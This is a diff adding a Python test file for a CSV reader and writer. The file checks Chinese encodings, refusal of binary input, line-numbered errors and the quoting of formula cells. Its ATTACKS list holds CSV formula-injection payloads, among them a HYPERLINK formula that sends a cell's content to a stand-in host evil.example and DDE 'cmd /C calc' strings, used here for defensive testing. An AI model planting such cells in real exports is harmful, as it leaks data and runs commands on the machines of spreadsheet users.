@@ -1,0 +1,287 @@
+"""CSV in and out: organisers' files in every encoding they save, formulas never live."""
+
+from __future__ import annotations
+
+import codecs
+import csv
+import io
+import unicodedata
+from decimal import Decimal
+from pathlib import Path
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from bot.core.csvfiles import (
+    CsvInputError,
+    parse_csv_bytes,
+    read_csv_rows,
+    safe_cell,
+    write_csv,
+)
+
+TEXT = (
+    "community,indicator,period,value\n碧海社区,绿化率,2026-Q1,35.5\n汇展城社区,绿化率,2026-Q1,28\n"
+)
+EXPECTED = [
+    {"community": "碧海社区", "indicator": "绿化率", "period": "2026-Q1", "value": "35.5"},
+    {"community": "汇展城社区", "indicator": "绿化率", "period": "2026-Q1", "value": "28"},
+]
+
+# The cells from issue 14 item 3 and their relatives (full-width, hidden leading characters).
+ATTACKS = [
+    '=HYPERLINK("http://evil.example/?d="&A1,"点此")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "=1+1",
+    " =1+1",
+    "\u3000=1+1",
+    "\u00a0+1",
+    "\u200b=1+1",
+    "\ufeff=1+1",
+    "\u202e=1+1",
+    "＝1+1",
+    "＋cmd|' /C calc'!A0",
+    "－1+1",
+    "＠SUM(1+1)",
+    "﹦1+1",
+    "\t",
+    "\tharmless after a tab",
+]
+
+BENIGN = ["今天的停车问题", "3号楼电梯坏了", "2026-03-01", "a-b", "'已经引用", "", "邮箱 a@b.cn"]
+
+
+def write(tmp_path: Path, data: bytes, name: str = "values.csv") -> Path:
+    """Put bytes in a real file under the test's directory."""
+    path = tmp_path / name
+    path.write_bytes(data)
+    return path
+
+
+def spreadsheet_view(cell: str) -> str:
+    """What a spreadsheet looks at to decide on a formula: leading blanks and marks dropped."""
+    start = 0
+    while start < len(cell) and (
+        cell[start].isspace() or unicodedata.category(cell[start]) == "Cf"
+    ):
+        start += 1
+    return unicodedata.normalize("NFKC", cell[start : start + 1])
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        TEXT.encode("utf-8"),
+        codecs.BOM_UTF8 + TEXT.encode("utf-8"),
+        TEXT.encode("gbk"),
+        TEXT.encode("gb18030"),
+        TEXT.replace("\n", "\r\n").encode("gbk"),
+        codecs.BOM_UTF16_LE + TEXT.encode("utf-16-le"),
+    ],
+    ids=["utf8", "utf8-bom", "gbk", "gb18030", "gbk-crlf", "utf16-bom"],
+)
+def test_every_encoding_a_spreadsheet_saves_reads_the_same(tmp_path: Path, data: bytes) -> None:
+    """UTF-8 with or without BOM, GBK, GB18030 and UTF-16 files give the same Chinese rows."""
+    rows = read_csv_rows(write(tmp_path, data))
+    assert rows == EXPECTED
+    assert [row.line for row in rows] == [2, 3]
+
+
+def test_a_gb18030_only_character_survives(tmp_path: Path) -> None:
+    """A character outside GBK (䶮) in a GB18030 file is read, not garbled or refused."""
+    data = "text,label\n䶮字的名字登记错误,公平\n".encode("gb18030")
+    assert read_csv_rows(write(tmp_path, data)) == [{"text": "䶮字的名字登记错误", "label": "公平"}]
+
+
+def test_a_png_is_refused_by_name(tmp_path: Path) -> None:
+    """A PNG picked by mistake is named as such, with the file's name, not a codec error."""
+    png = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01" + bytes(range(256))
+    path = write(tmp_path, png, "chart.csv")
+    with pytest.raises(CsvInputError) as caught:
+        read_csv_rows(path)
+    assert caught.value.path == str(path)
+    assert "PNG" in caught.value.message("zh") and "PNG" in caught.value.message("en")
+    assert str(path) in str(caught.value)
+    assert "codec" not in str(caught.value)
+
+
+def test_an_excel_workbook_is_refused_with_the_fix(tmp_path: Path) -> None:
+    """An .xlsx (a zip) is named as an Excel workbook, and the message says to save as CSV."""
+    path = write(tmp_path, b"PK\x03\x04\x14\x00\x06\x00" + b"\x00" * 40, "values.xlsx")
+    with pytest.raises(CsvInputError) as caught:
+        read_csv_rows(path)
+    assert "Excel" in caught.value.en and "CSV" in caught.value.en
+    assert "另存为 CSV" in caught.value.zh
+
+
+def test_other_binary_is_refused(tmp_path: Path) -> None:
+    """A file with NUL bytes and no known signature is refused as binary, naming the file."""
+    path = write(tmp_path, b"text\n\x00\x01\x02\x03binary")
+    with pytest.raises(CsvInputError, match="binary") as caught:
+        read_csv_rows(path)
+    assert caught.value.line == 0
+
+
+def test_an_undecodable_byte_names_its_line(tmp_path: Path) -> None:
+    """A byte that is neither UTF-8 nor GB18030 is reported with the line it sits on."""
+    data = "text\n第一条意见\n".encode("gbk") + b"\xff\xff\n"
+    with pytest.raises(CsvInputError) as caught:
+        read_csv_rows(write(tmp_path, data))
+    assert caught.value.line == 3
+    assert "第 3 行" in caught.value.message("zh")
+    assert "line 3" in caught.value.message("en")
+
+
+def test_damaged_utf8_is_not_garbled_as_gbk(tmp_path: Path) -> None:
+    """A UTF-8 file with one broken byte is refused at that line rather than read as mojibake."""
+    data = "text\n小区门口的路灯坏了很久没人修\n".encode() + b"\xe6\x88\n"
+    with pytest.raises(CsvInputError) as caught:
+        read_csv_rows(write(tmp_path, data))
+    assert caught.value.line == 3
+
+
+def test_a_bad_row_names_its_physical_line(tmp_path: Path) -> None:
+    """Lines are counted in the file (header = 1), past a quoted cell spanning two lines."""
+    data = 'text,label\n"停车难，\n车位少",停车\n\n多了一列,养老,多余\n'.encode()
+    with pytest.raises(CsvInputError) as caught:
+        read_csv_rows(write(tmp_path, data))
+    assert caught.value.line == 5
+    assert "3" in caught.value.en and "2" in caught.value.en
+
+
+def test_a_short_row_is_refused(tmp_path: Path) -> None:
+    """A row with fewer cells than the header is an error at its line, not a silent None."""
+    with pytest.raises(CsvInputError) as caught:
+        read_csv_rows(write(tmp_path, "text,label\n只有文字\n".encode()))
+    assert caught.value.line == 2
+
+
+def test_trailing_empty_cells_are_forgiven(tmp_path: Path) -> None:
+    """Empty trailing columns that spreadsheets leave behind do not make a row wrong."""
+    rows = read_csv_rows(write(tmp_path, "text,label,,\n垃圾分类,环境保护,,\n,,,\n".encode()))
+    assert rows == [{"text": "垃圾分类", "label": "环境保护"}]
+
+
+def test_a_missing_required_column_is_named(tmp_path: Path) -> None:
+    """A header without a required column names the column, on line 1."""
+    path = write(tmp_path, "text,theme\n噪音扰民,噪音\n".encode())
+    with pytest.raises(CsvInputError) as caught:
+        read_csv_rows(path, required=("text", "label"))
+    assert caught.value.line == 1 and "label" in caught.value.en and "label" in caught.value.zh
+
+
+def test_duplicate_and_blank_header_names_are_refused() -> None:
+    """Two columns of one name, or a column with none, are errors on line 1."""
+    with pytest.raises(CsvInputError, match="twice"):
+        parse_csv_bytes(b"text,text\na,b\n", "dup.csv")
+    with pytest.raises(CsvInputError, match="no name") as caught:
+        parse_csv_bytes(b"text,,label\na,b,c\n", "blank.csv")
+    assert caught.value.line == 1
+
+
+def test_an_unmatched_quote_is_reported() -> None:
+    """A quote never closed is a CSV error naming the line where its record starts."""
+    with pytest.raises(CsvInputError) as caught:
+        parse_csv_bytes('text\n好的\n"没有结束的引号\n还有\n'.encode(), "open.csv")
+    assert caught.value.line == 3
+
+
+def test_an_empty_file_and_a_missing_file_are_reported(tmp_path: Path) -> None:
+    """An empty file says it has no header; a missing one says it cannot be read."""
+    with pytest.raises(CsvInputError, match="empty"):
+        read_csv_rows(write(tmp_path, b""))
+    with pytest.raises(CsvInputError, match="cannot read") as caught:
+        read_csv_rows(tmp_path / "nowhere.csv")
+    assert caught.value.path.endswith("nowhere.csv")
+
+
+def test_a_caller_reports_a_bad_value_at_its_row() -> None:
+    """`CsvInputError.at` gives a caller's own validation the row's file and line."""
+    rows = parse_csv_bytes(TEXT.encode(), "values.csv")
+    error = CsvInputError.at(rows[1], "数值无效。", "not a number.")
+    assert (error.path, error.line) == ("values.csv", 3)
+    assert error.message("zh") == "values.csv 第 3 行：数值无效。"
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_a_formula_cell_is_neutralised(attack: str) -> None:
+    """Each attack string is written with a leading quote and otherwise unchanged."""
+    assert safe_cell(attack) == "'" + attack
+
+
+@pytest.mark.parametrize("text", BENIGN)
+def test_ordinary_words_are_left_alone(text: str) -> None:
+    """Words that no spreadsheet evaluates are written exactly as given."""
+    assert safe_cell(text) == text
+
+
+def test_a_written_file_carries_no_live_formula() -> None:
+    """Read back as a spreadsheet would, no text cell of a written file starts a formula."""
+    data = write_csv([[attack, "碧海社区"] for attack in ATTACKS], ["text", "community"])
+    cells = [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]
+    assert len(cells) == 2 * (len(ATTACKS) + 1)
+    for cell in cells:
+        assert spreadsheet_view(cell) not in {"=", "+", "-", "@"}, cell
+        # Dropping a leading tab (as spreadsheets do on import) must not bring a formula up.
+        assert spreadsheet_view(cell.lstrip("\t\r\n")) not in {"=", "+", "-", "@"}, cell
+
+
+def test_numbers_stay_numbers_and_text_numbers_do_not() -> None:
+    """A numeric -3.5 is written as -3.5; the same characters as a resident's text are quoted."""
+    data = write_csv(
+        [["碧海社区", -3.5, -2, Decimal("-0.250"), "-3.5", None, True]],
+        ["community", "value", "delta", "share", "comment", "empty", "flag"],
+        bom=False,
+    )
+    lines = data.decode("utf-8").split("\r\n")
+    assert lines[1] == "碧海社区,-3.5,-2,-0.250,'-3.5,,true"
+
+
+def test_a_non_finite_number_is_written_as_text() -> None:
+    """-inf is not a number to a spreadsheet, so it is written as neutralised text."""
+    assert safe_cell(float("-inf")) == "'-inf"
+    assert safe_cell(float("nan")) == "nan"
+    assert safe_cell(Decimal("-Infinity")) == "'-Infinity"
+
+
+def test_bom_header_and_mapping_rows() -> None:
+    """The BOM is on by default, the header is neutralised too, and dict rows fill by name."""
+    data = write_csv(
+        [{"社区": "碧海社区", "=意见": "+1"}, {"社区": "汇展城社区"}], ["社区", "=意见"]
+    )
+    assert data.startswith(codecs.BOM_UTF8)
+    assert data[3:].decode("utf-8") == "社区,'=意见\r\n碧海社区,'+1\r\n汇展城社区,\r\n"
+    assert not write_csv([], ["text"], bom=False).startswith(codecs.BOM_UTF8)
+
+
+def test_a_row_of_the_wrong_length_is_a_programming_error() -> None:
+    """A row that does not match the header raises rather than shifting columns."""
+    with pytest.raises(ValueError, match="header of 2"):
+        write_csv([["only one"]], ["a", "b"])
+
+
+def test_written_files_read_back_unchanged_but_for_the_quote() -> None:
+    """What `write_csv` writes, `parse_csv_bytes` reads back: cells intact, quotes visible."""
+    rows = [["停车难，车位少", '他说"太吵了"'], ["=1+1", "多行\n意见"]]
+    back = parse_csv_bytes(write_csv(rows, ["a", "b"]), "out.csv")
+    assert back == [
+        {"a": "停车难，车位少", "b": '他说"太吵了"'},
+        {"a": "'=1+1", "b": "多行\n意见"},
+    ]
+
+
+@given(st.text())
+def test_any_text_is_kept_or_quoted_never_altered(text: str) -> None:
+    """For any text, the cell is the text itself or the text behind one quote."""
+    cell = safe_cell(text)
+    assert cell in (text, "'" + text)
+    if cell == text:
+        assert spreadsheet_view(text) not in {"=", "+", "-", "@"}
+        assert not text.startswith(("\t", "\r", "\n"))
